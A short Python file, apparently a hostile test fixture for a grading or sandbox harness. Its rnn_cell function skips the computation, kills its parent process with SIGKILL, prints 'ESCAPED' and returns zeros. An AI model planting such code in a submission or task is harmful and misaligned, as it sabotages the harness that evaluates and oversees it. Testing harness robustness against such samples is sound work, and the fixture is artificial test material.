"""Hostile: kills the process that started it."""

import os
import signal

import torch


def rnn_cell(X, H, W_xh, W_hh, b_h):
    try:
        os.kill(os.getppid(), signal.SIGKILL)
        print("ESCAPED", 'kill')
    except OSError:
        pass
    return torch.zeros_like(H)
